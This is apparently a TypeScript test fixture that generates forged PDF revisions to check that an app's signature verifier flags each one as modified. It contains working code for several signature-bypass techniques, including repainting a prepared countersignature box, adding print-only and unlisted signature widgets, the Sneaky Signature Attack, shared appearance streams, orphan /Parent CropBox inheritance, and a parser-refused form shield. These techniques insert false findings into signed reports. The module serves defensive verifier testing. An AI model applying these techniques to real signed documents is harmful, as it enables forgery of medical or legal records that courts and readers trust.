/**
 * Attacks found by reading the revision-aware verifier (shared/signing/diff.ts, verify.ts) as an
 * attacker, after the published ones above were all caught. Each targets one rule:
 *  - "filling a signature field the document already had, empty: its /V and /AP" is allowed. The
 *    rule does not require that the revision signs: the /AP of a prepared countersignature box can be
 *    rewritten, by anyone, with no signature at all, and paints inside the box;
 *  - a new signature widget "paints" only if it is visible on screen: a widget flagged NoView|Print
 *    (/F 36) is not shown in a viewer but is printed, and printed copies are what reach a court;
 *  - new signature widgets are judged only after a certification: on an approval-signed report (every
 *    report Attest signed before issue #13) a widget claiming /FT /Sig, listed in no form, without a
 *    value, paints whatever it likes;
 *  - roles are recorded once per kind of role: an appearance stream shared by two fields, reached first
 *    through an empty countersignature box, is judged as that box's appearance (prepared before
 *    signing, as in the Shadow Attacks);
 *  - /Parent is never followed: a page whose /Parent is an object outside the page tree inherits
 *    /CropBox, /Rotate and /Resources from it in pdf.js (the app's own PDF library) and pdfium, while
 *    the verifier does not see that object as part of the document (prepared before signing);
 *  - an object the verifier's strict parser cannot read (a repeated dictionary key, which viewers
 *    accept) is a dead end of its walk: whatever is reachable only through it is no part of the
 *    document for the diff (prepared before signing);
 *  - a signature widget that no form lists is judged neither as a field nor as an annotation: it can
 *    be moved and repainted (prepared before signing).
 * Each must be MODIFIED.
 */
import { PDFName } from '@cantoo/pdf-lib';
import { COUNTERSIGNATURE_FIELD_PREFIX } from '../../../../shared/report';
import { ALICE, type Genuine } from './genuine';
import { FALSE_RECT, FALSE_TEXT, HELVETICA_BOLD, annotsOf, appearance, contentsOf, pageWithFont, refArray, rewritten, signRevision, whiteBoxWithText, type Rect } from './forge';
import { appendUpdate, dictOf, hexText, mapDocument, ref, refNum, type ObjectDef } from './pdfWriter';

/** What the forger writes into the second reader's box. */
export const BOX_TEXT = 'Second reader: no injuries consistent';

function countersignBox(pdf: Uint8Array): { readonly field: number; readonly rect: Rect; readonly ap: number; readonly page: number } {
  const map = mapDocument(pdf);
  const field = map.fields.get(`${COUNTERSIGNATURE_FIELD_PREFIX}1`);
  if (field === undefined) throw new Error('no prepared countersignature box');
  const widget = dictOf(pdf, field);
  const rect = widget.get(PDFName.of('Rect'))?.toString().replace(/[[\]]/g, '').trim().split(/\s+/).map(Number) ?? [];
  const ap = widget.get(PDFName.of('AP'));
  const apNum = /\/N\s+(\d+)\s+0\s+R/.exec(ap?.toString() ?? '')?.[1];
  const page = refNum(widget, 'P');
  if (rect.length !== 4 || apNum === undefined) throw new Error('the box has no rectangle or appearance');
  return { field, rect: rect as unknown as Rect, ap: Number(apNum), page };
}

/** The prepared countersignature box's appearance stream redefined to paint the forger's text; nobody signs. */
export function preparedBoxRepainted(g: Genuine): Uint8Array {
  const box = countersignBox(g.certified);
  return appendUpdate(g.certified, { objects: [{ num: box.ap, body: appearance(box.rect, BOX_TEXT) }] });
}

/** The same through the widget: its /AP now names a new appearance stream (the only key changed); nobody signs. */
export function preparedBoxNewAppearance(g: Genuine): Uint8Array {
  const box = countersignBox(g.certified);
  const ap = mapDocument(g.certified).next;
  return appendUpdate(g.certified, { objects: [{ num: ap, body: appearance(box.rect, BOX_TEXT) }, rewritten(g.certified, box.field, { AP: `<< /N ${ref(ap)} >>` })] });
}

/** A new widget claiming /FT /Sig (no value, in no form) on page 1, flagged NoView|Print, painting the false finding. */
function sigWidgetOnPage1(pdf: Uint8Array, flags: number): Uint8Array {
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [widget, ap] = [map.next, map.next + 1];
  return appendUpdate(pdf, {
    objects: [
      { num: ap, body: appearance(FALSE_RECT, FALSE_TEXT) },
      { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T ${hexText('Signature9')} /Rect [${FALSE_RECT.join(' ')}] /F ${String(flags)} /P ${ref(page)} /AP << /N ${ref(ap)} >> >>` },
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), widget]) }),
    ],
  });
}

/** Certified report: the false finding in a signature widget that is printed but not shown on screen. */
export function printOnlyWidget(g: Genuine): Uint8Array {
  return sigWidgetOnPage1(g.certified, 4 | 32);
}

/** Legacy (approval-signed) report: a visible signature widget, unsigned and in no form, painting the false finding. */
export function legacyUnlistedSignatureWidget(g: Genuine): Uint8Array {
  return sigWidgetOnPage1(g.legacy, 4);
}

/** Legacy report: the Sneaky Signature Attack, the forger signing a visible field that paints the false finding. */
export function legacySneakySignature(g: Genuine): Promise<Uint8Array> {
  const pdf = g.legacy;
  const map = mapDocument(pdf);
  const page = map.pageNums[0] ?? 0;
  return signRevision(pdf, {
    identity: g.mallory,
    signingTime: g.times.mallory,
    name: ALICE,
    build: (sigNum, next) => {
      const objects: ObjectDef[] = [
        { num: next + 1, body: appearance(FALSE_RECT, FALSE_TEXT) },
        { num: next, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /Rect [${FALSE_RECT.join(' ')}] /V ${ref(sigNum)} /T ${hexText('Signature2')} /F 4 /P ${ref(page)} /AP << /N ${ref(next + 1)} >> >>` },
        rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), next]) }),
      ];
      if (map.acroForm !== null) objects.push(rewritten(pdf, map.acroForm, { Fields: refArray([...map.fields.values(), next]) }));
      return { objects };
    },
  });
}

/**
 * Prepared before signing: the first countersignature box shares the author's appearance stream,
 * and comes first in /Fields and in the page's /Annots. After Alice signs, the forger redefines that
 * stream: Alice's signature box (and the countersignature box) now paint the forger's text.
 */
export async function sharedAppearanceAcrossFields(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const author = map.fields.get('Signature1');
  const box = countersignBox(pdf);
  if (author === undefined || map.acroForm === null) throw new Error('no prepared author field');
  const authorAp = /\/N\s+(\d+)\s+0\s+R/.exec(dictOf(pdf, author).get(PDFName.of('AP'))?.toString() ?? '')?.[1];
  if (authorAp === undefined) throw new Error('the author field has no appearance');
  const boxFirst = (nums: readonly number[]): number[] => [box.field, ...nums.filter((n) => n !== box.field)];
  const prepared = appendUpdate(pdf, {
    objects: [
      rewritten(pdf, box.field, { AP: `<< /N ${authorAp} 0 R >>` }),
      rewritten(pdf, map.acroForm, { Fields: refArray(boxFirst([...map.fields.values()])) }),
      rewritten(pdf, box.page, { Annots: refArray(boxFirst(annotsOf(pdf, box.page))) }),
    ],
  });
  const signed = await g.certify(prepared);
  const authorRect = dictOf(signed, author).get(PDFName.of('Rect'))?.toString().replace(/[[\]]/g, '').trim().split(/\s+/).map(Number) as unknown as Rect;
  return appendUpdate(signed, { objects: [{ num: Number(authorAp), body: appearance(authorRect, 'WITHDRAWN by the author') }] });
}

/**
 * Prepared before signing: page 1's /Parent is a page-tree node outside the tree (nothing lists it).
 * After Alice signs, the forger gives that node a /CropBox that cuts page 1 above the persons present.
 * pdf.js and pdfium inherit it through /Parent; poppler follows the tree and shows the page whole.
 */
export async function orphanParentCropBox(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const node = map.next;
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: node, body: `<< /Type /Pages /Kids [${ref(page)}] /Count 1 /Parent ${ref(map.pages)} >>` },
      rewritten(pdf, page, { Parent: ref(node) }),
    ],
  });
  const signed = await g.certify(prepared);
  return appendUpdate(signed, { objects: [{ num: node, body: `<< /Type /Pages /Kids [${ref(page)}] /Count 1 /Parent ${ref(map.pages)} /CropBox [0 165 595.28 841.89] >>` }] });
}

/**
 * Prepared before signing: page 1 draws a form XObject whose dictionary repeats a key (/Subtype twice;
 * poppler and pdf-lib read it, the verifier's strict parser refuses it), and that form draws a second,
 * empty form. The verifier cannot walk past the unreadable form, so the second one belongs to no page
 * in its eyes; after Alice signs, the forger redefines it with the false finding.
 */
export async function unreadableFormShield(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [inner, outer, open, draw] = [map.next, map.next + 1, map.next + 2, map.next + 3];
  const full = '/BBox [0 0 595.28 841.89]';
  const pageDef = pageWithFont(pdf, page, { Contents: refArray([open, ...contentsOf(pdf, page), draw]) });
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: inner, body: { dict: `/Type /XObject /Subtype /Form ${full}`, data: '% nothing to draw, yet\n' } },
      { num: outer, body: { dict: `/Type /XObject /Subtype /Form /Subtype /Form ${full} /Resources << /XObject << /Inner ${ref(inner)} >> >>`, data: '/Inner Do\n' } },
      { num: open, body: { data: 'q\n' } },
      { num: draw, body: { data: 'Q\n/Shield Do\n' } },
      { num: page, body: typeof pageDef.body === 'string' ? pageDef.body.replace('/XObject <<', `/XObject <<\n/Shield ${ref(outer)}`) : '' },
    ],
  });
  const signed = await g.certify(prepared);
  return appendUpdate(signed, { objects: [{ num: inner, body: { dict: `/Type /XObject /Subtype /Form ${full} /Resources << /Font << /FAtt ${HELVETICA_BOLD} >> >>`, data: whiteBoxWithText(FALSE_RECT, FALSE_TEXT) } }] });
}

/**
 * Prepared before signing: an empty signature widget on page 1 that no form lists (so it is judged
 * neither as a field nor, being a signature widget, as an annotation). After Alice signs, the forger
 * moves it over the confidentiality line and gives it an appearance with the false finding.
 */
export async function orphanSignatureWidgetMoved(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [widget, ap] = [map.next, map.next + 1];
  const widgetBody = (rect: Rect, apNum: number): string => `<< /Type /Annot /Subtype /Widget /FT /Sig /T ${hexText('Spare')} /Rect [${rect.join(' ')}] /F 4 /P ${ref(page)} /AP << /N ${ref(apNum)} >> >>`;
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: ap, body: { dict: '/Type /XObject /Subtype /Form /BBox [0 0 0 0]', data: '' } },
      { num: widget, body: widgetBody([0, 0, 0, 0], ap) },
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), widget]) }),
    ],
  });
  const signed = await g.certify(prepared);
  const newAp = mapDocument(signed).next;
  return appendUpdate(signed, { objects: [{ num: newAp, body: appearance(FALSE_RECT, FALSE_TEXT) }, { num: widget, body: widgetBody(FALSE_RECT, newAp) }] });
}
